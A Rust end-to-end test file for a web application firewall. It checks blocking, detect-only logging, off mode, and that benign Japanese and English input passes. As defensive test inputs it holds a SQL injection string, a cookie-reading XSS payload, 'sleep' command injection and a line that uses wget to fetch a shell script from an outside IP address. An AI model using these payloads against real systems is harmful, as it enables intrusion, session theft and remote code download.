//! The web application firewall (C6) end to end over real HTTPS, on SQLite
//! and PostgreSQL: attacks get the site's generic 403 (page or JSON, with
//! the request id) in `block` mode, pass but are logged in `detect` mode,
//! and what members really type is never blocked. Requests go to
//! `https://127.0.0.1:<port>` as the embedded default is reached, so the
//! numeric `Host` is part of what is tested.

use anshin_testkit::anshin::config::{WafMode, WafProseField};
use anshin_testkit::reqwest::{StatusCode, header};
use anshin_testkit::{Backend, TestApp, backends, cookie_pair, set_cookie};

backends!(
    c06_block_mode_refuses_sqli_in_a_query_parameter,
    c06_block_mode_refuses_xss_in_a_form_field_before_any_handler,
    c06_block_mode_refuses_xss_in_json_with_the_api_error,
    c06_detect_mode_lets_attacks_through_and_logs_them_without_values,
    c06_off_mode_does_not_inspect,
    c06_benign_pages_and_japanese_form_posts_pass,
    c06_prose_exclusions_hold_only_where_a_route_declares_the_field,
);

const SQLI: &str = "1' OR '1'='1";
const XSS: &str = "<script>alert(document.cookie)</script>";

/// Captured log lines (the test kit's JSON lines, of every in-process
/// server of this test binary) that carry this request id, each flattened
/// to `message key=value …` so tests can look for a field.
fn log_lines_of(request_id: &str) -> Vec<String> {
    fn flatten(v: &serde_json::Value, out: &mut String) {
        match v {
            serde_json::Value::Object(map) => {
                for (k, v) in map {
                    match v {
                        serde_json::Value::Object(_) | serde_json::Value::Array(_) => {
                            flatten(v, out)
                        }
                        serde_json::Value::String(s) if k == "message" => {
                            out.push_str(s);
                            out.push(' ');
                        }
                        serde_json::Value::String(s) => out.push_str(&format!("{k}={s} ")),
                        other => out.push_str(&format!("{k}={other} ")),
                    }
                }
            }
            serde_json::Value::Array(items) => items.iter().for_each(|i| flatten(i, out)),
            other => out.push_str(&other.to_string()),
        }
    }
    anshin_testkit::captured_logs()
        .lines()
        .filter(|l| l.contains(request_id))
        .map(|l| {
            let mut out = String::new();
            match serde_json::from_str::<serde_json::Value>(l) {
                Ok(v) => flatten(&v, &mut out),
                Err(_) => out.push_str(l),
            }
            out
        })
        .collect()
}

async fn spawn(b: Backend, mode: WafMode) -> TestApp {
    TestApp::spawn_with(b, |s| s.waf.mode = mode).await
}

fn prose(method: &str, route: &str, field: &str) -> WafProseField {
    WafProseField {
        method: method.into(),
        route: route.into(),
        field: field.into(),
    }
}

/// Block mode with these prose fields declared (`waf.prose_fields`). No
/// route of the site takes prose yet, so tests stand existing routes in
/// for the search page and the forms that will.
async fn spawn_with_prose(b: Backend, fields: Vec<WafProseField>) -> TestApp {
    TestApp::spawn_with(b, |s| s.waf.prose_fields = fields).await
}

fn query(value: &str) -> String {
    url::form_urlencoded::byte_serialize(value.as_bytes()).collect()
}

/// GETs the language form and returns (session cookie pair, csrf token).
async fn form_session(app: &TestApp) -> (String, String) {
    let res = app
        .client
        .get(app.url("/settings/language"))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::OK);
    let cookie = cookie_pair(set_cookie(&res, "__Host-anshin_session").expect("session cookie"));
    let body = res.text().await.unwrap();
    let marker = "name=\"csrf_token\" value=\"";
    let start = body.find(marker).expect("token in form") + marker.len();
    let token = body[start..start + body[start..].find('"').unwrap()].to_owned();
    (cookie, token)
}

/// Whether a page names a CRS rule id (a 9xxxxx number standing alone).
/// Random tokens on the page (request id, CSP nonce) may hold "942" by chance
/// (about one page in twenty), so a bare substring test would be a flake.
fn names_a_crs_rule(page: &str) -> bool {
    let b = page.as_bytes();
    (0..b.len().saturating_sub(5)).any(|i| {
        b[i] == b'9'
            && b[i..i + 6].iter().all(u8::is_ascii_digit)
            && (i == 0 || !b[i - 1].is_ascii_alphanumeric())
            && b.get(i + 6).is_none_or(|c| !c.is_ascii_alphanumeric())
    })
}

#[test]
fn a_rule_id_is_found_only_standing_alone() {
    assert!(names_a_crs_rule("matched 942100."));
    assert!(names_a_crs_rule("942100"));
    assert!(!names_a_crs_rule("id a9421007f and nonce x942100y"));
    assert!(!names_a_crs_rule("no rule here"));
}

fn request_id(res: &anshin_testkit::reqwest::Response) -> String {
    res.headers()["x-request-id"].to_str().unwrap().to_owned()
}

async fn c06_block_mode_refuses_sqli_in_a_query_parameter(b: Backend) {
    let app = spawn(b, WafMode::Block).await;
    let res = app
        .client
        .get(app.url(&format!("/?q={}", query(SQLI))))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::FORBIDDEN);
    let id = request_id(&res);
    assert!(
        res.headers()["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/html")
    );
    assert!(res.headers().contains_key("strict-transport-security"));
    let page = res.text().await.unwrap();
    assert!(
        page.contains("403") && page.contains(&id),
        "generic page with the request id"
    );
    assert!(
        !page.contains(SQLI) && !names_a_crs_rule(&page),
        "nothing about the rule or the input"
    );
    // The same page without the attack is served.
    let res = app.client.get(app.url("/?q=1")).send().await.unwrap();
    assert_eq!(res.status(), StatusCode::OK);
    // Counted for monitoring, by rule id, without the value.
    let metrics = metrics(&app).await;
    assert!(
        metrics.contains("\nanshin_waf_blocked_total 1\n"),
        "{metrics}"
    );
    assert!(
        metrics.contains("\nanshin_waf_would_block_total 0\n"),
        "{metrics}"
    );
    assert!(
        metrics.contains("anshin_waf_rule_matches_total{rule=\"942100\"} 1\n"),
        "{metrics}"
    );
    assert!(!metrics.contains("'1'='1"), "{metrics}");
    app.stop().await;
}

async fn metrics(app: &TestApp) -> String {
    anshin_testkit::reqwest::get(app.ops_url("/metrics"))
        .await
        .unwrap()
        .text()
        .await
        .unwrap()
}

async fn c06_block_mode_refuses_xss_in_a_form_field_before_any_handler(b: Backend) {
    let app = spawn(b, WafMode::Block).await;
    let (cookie, token) = form_session(&app).await;
    // A valid session and CSRF token: without the WAF this would reach the
    // handler (and get 400 unknown_language).
    let res = app
        .client
        .post(app.url("/settings/language"))
        .header(header::COOKIE, &cookie)
        .form(&[("lang", "en"), ("csrf_token", &token), ("note", XSS)])
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::FORBIDDEN);
    assert!(
        set_cookie(&res, "__Host-anshin_lang").is_none(),
        "handler did not run"
    );
    let id = request_id(&res);
    let page = res.text().await.unwrap();
    assert!(page.contains(&id));
    let lines = log_lines_of(&id);
    assert!(
        lines.iter().any(|l| l.contains("waf blocked request")),
        "{lines:#?}"
    );
    assert!(
        !lines.iter().any(|l| l.contains("script")),
        "matched value logged: {lines:#?}"
    );

    // Sent from the form page (a browser's Referer): the person is taken
    // back to the form with a message instead of a bare error page, and
    // still nothing was done.
    let res = app
        .client
        .post(app.url("/settings/language"))
        .header(header::COOKIE, &cookie)
        .header(header::REFERER, app.url("/settings/language"))
        .form(&[("lang", "en"), ("csrf_token", &token), ("note", XSS)])
        .send()
        .await
        .unwrap();
    assert!(set_cookie(&res, "__Host-anshin_lang").is_none());
    let id = request_id(&res);
    let (status, page) = app.follow(res, "/settings/language", &cookie).await;
    assert_eq!(status, StatusCode::OK);
    let ja = anshin_core::i18n::Catalogs::load().unwrap();
    let message = &ja.get(anshin_core::i18n::Lang::Ja).flash["request_blocked"];
    let before_symbols = message.split('<').next().unwrap();
    assert!(page.contains(before_symbols), "the form says what happened");
    assert!(
        log_lines_of(&id)
            .iter()
            .any(|l| l.contains("waf blocked request")),
        "still logged"
    );
    app.stop().await;
}

async fn c06_block_mode_refuses_xss_in_json_with_the_api_error(b: Backend) {
    let app = spawn(b, WafMode::Block).await;
    let res = app
        .client
        .put(app.url("/api/v1/preferences/language"))
        .json(&serde_json::json!({ "lang": XSS }))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::FORBIDDEN);
    let id = request_id(&res);
    let body: serde_json::Value = res.json().await.unwrap();
    assert_eq!(body["error"], "request_blocked");
    assert_eq!(body["request_id"], id.as_str());
    // Malformed JSON is refused by the WAF's body processor with the API's
    // usual error, as it was before the WAF.
    let res = app
        .client
        .put(app.url("/api/v1/preferences/language"))
        .header(header::CONTENT_TYPE, "application/json")
        .body("{\"lang\":")
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::BAD_REQUEST);
    let body: serde_json::Value = res.json().await.unwrap();
    assert_eq!(body["error"], "malformed_json");
    app.stop().await;
}

async fn c06_detect_mode_lets_attacks_through_and_logs_them_without_values(b: Backend) {
    let app = spawn(b, WafMode::Detect).await;
    let res = app
        .client
        .get(app.url(&format!("/?q={}", query(SQLI))))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::OK);
    let id = request_id(&res);
    let lines = log_lines_of(&id);
    let matched: Vec<&String> = lines
        .iter()
        .filter(|l| l.contains("waf rule matched"))
        .collect();
    assert!(
        matched.iter().any(|l| l.contains("rule_id=942100")
            && l.contains("variable=ARGS:q")
            && l.contains("phase=2")
            && l.contains("anomaly_score=")),
        "{lines:#?}"
    );
    assert!(
        lines.iter().any(|l| l.contains("waf would block request")),
        "{lines:#?}"
    );
    assert!(!lines.iter().any(|l| l.contains("'1'='1")), "{lines:#?}");
    let m = metrics(&app).await;
    assert!(m.contains("\nanshin_waf_would_block_total 1\n"), "{m}");
    assert!(m.contains("\nanshin_waf_blocked_total 0\n"), "{m}");

    let (cookie, token) = form_session(&app).await;
    let res = app
        .client
        .post(app.url("/settings/language"))
        .header(header::COOKIE, &cookie)
        .form(&[("lang", "en"), ("csrf_token", &token), ("note", XSS)])
        .send()
        .await
        .unwrap();
    // The handler ran: it saved the language and redirected.
    assert_eq!(res.status(), StatusCode::SEE_OTHER);
    assert!(set_cookie(&res, "__Host-anshin_lang").is_some());
    let lines = log_lines_of(&request_id(&res));
    assert!(
        lines
            .iter()
            .any(|l| l.contains("waf rule matched") && l.contains("variable=ARGS:note")),
        "{lines:#?}"
    );
    assert!(!lines.iter().any(|l| l.contains("script>")), "{lines:#?}");
    app.stop().await;
}

async fn c06_off_mode_does_not_inspect(b: Backend) {
    let app = TestApp::spawn_with(b, |s| {
        s.waf.mode = WafMode::Off;
        // Off reads no rule files at all.
        s.waf.crs_rules = "/nonexistent".into();
    })
    .await;
    let res = app
        .client
        .get(app.url(&format!("/?q={}", query(SQLI))))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::OK);
    app.stop().await;
}

async fn c06_benign_pages_and_japanese_form_posts_pass(b: Backend) {
    // The language form's `note` and the home page's `q` stand in for
    // prose fields (a message, a search).
    let app = spawn_with_prose(
        b,
        vec![
            prose("POST", "/settings/language", "note"),
            prose("GET", "/", "q"),
        ],
    )
    .await;
    for path in ["/", "/settings/language"] {
        let res = app.client.get(app.url(path)).send().await.unwrap();
        assert_eq!(res.status(), StatusCode::OK, "{path}");
    }
    let (cookie, token) = form_session(&app).await;
    for note in [
        "手作りの陶器のマグカップです。容量は約300mlで、電子レンジと食洗機に対応しています。",
        "〒150-0001 東京都渋谷区神宮前1-2-3 アンシンビル4F",
        "Tim O'Reilly; please select the union jack bag and drop the old one.",
        "See the [size guide](https://example.jp/guide/sizes). Price: ¥1,980",
    ] {
        let res = app
            .client
            .post(app.url("/settings/language"))
            .header(header::COOKIE, &cookie)
            .form(&[("lang", "en"), ("csrf_token", &token), ("note", note)])
            .send()
            .await
            .unwrap();
        let id = request_id(&res);
        assert_eq!(
            res.status(),
            StatusCode::SEE_OTHER,
            "{note}: {:#?}",
            log_lines_of(&id)
        );
    }
    // The JSON API (PUT, which stock CRS does not allow) is unaffected.
    let res = app
        .client
        .put(app.url("/api/v1/preferences/language"))
        .json(&serde_json::json!({ "lang": "ja" }))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::NO_CONTENT);
    // What members type, in a query string on the home page (over HTTP/2 or
    // HTTP/1.1, whichever the client negotiates).
    let corpus = include_str!("../../../anshin-waf/corpus/benign.txt");
    let mut n = 0;
    for line in corpus.lines().filter(|l| !l.is_empty()) {
        let res = app
            .client
            .get(app.url(&format!("/?q={}", query(line))))
            .send()
            .await
            .unwrap();
        let id = request_id(&res);
        assert_eq!(
            res.status(),
            StatusCode::OK,
            "{line}: {:#?}",
            log_lines_of(&id)
        );
        n += 1;
    }
    assert!(n >= 200);
    app.stop().await;
}

/// Issue 19: the prose exclusions used to hold for an argument name on
/// every path (`/?q=a;sleep 60;` passed, `/?x=a;sleep 60;` was blocked).
/// Now they hold for the (method, route, field) that declares it only.
async fn c06_prose_exclusions_hold_only_where_a_route_declares_the_field(b: Backend) {
    let attack = "a;sleep 60;";
    // Nothing declared (the site today): blocked whatever the name.
    let app = spawn(b, WafMode::Block).await;
    for name in ["q", "x"] {
        let res = app
            .client
            .get(app.url(&format!("/?{name}={}", query(attack))))
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), StatusCode::FORBIDDEN, "/?{name}=");
    }
    app.stop().await;

    let app = spawn_with_prose(b, vec![prose("POST", "/settings/language", "note")]).await;
    let (cookie, token) = form_session(&app).await;
    let post = |fields: Vec<(&'static str, String)>| {
        let mut form = vec![("lang", "en".to_owned()), ("csrf_token", token.clone())];
        form.extend(fields);
        app.client
            .post(app.url("/settings/language"))
            .header(header::COOKIE, &cookie)
            .form(&form)
            .send()
    };
    // The declared field on its route and method: passes.
    let res = post(vec![("note", attack.to_owned())]).await.unwrap();
    assert_eq!(res.status(), StatusCode::SEE_OTHER, "declared field passes");
    // The same text in another field of that route: blocked.
    let res = post(vec![("q", attack.to_owned())]).await.unwrap();
    assert_eq!(res.status(), StatusCode::FORBIDDEN, "undeclared field");
    // The same field name on another route, or another method: blocked.
    let res = app
        .client
        .get(app.url(&format!("/?note={}", query(attack))))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::FORBIDDEN, "GET /?note=");
    let res = app
        .client
        .get(app.url(&format!("/settings/language?note={}", query(attack))))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::FORBIDDEN, "GET on the route");
    let res = app
        .client
        .put(app.url("/api/v1/preferences/language"))
        .json(&serde_json::json!({ "lang": "ja", "note": attack }))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::FORBIDDEN, "JSON elsewhere");
    // A command after a separator stays blocked in the declared field.
    let res = post(vec![("note", "x; wget http://203.0.113.9/a.sh".to_owned())])
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::FORBIDDEN, "the narrower net");
    app.stop().await;
}
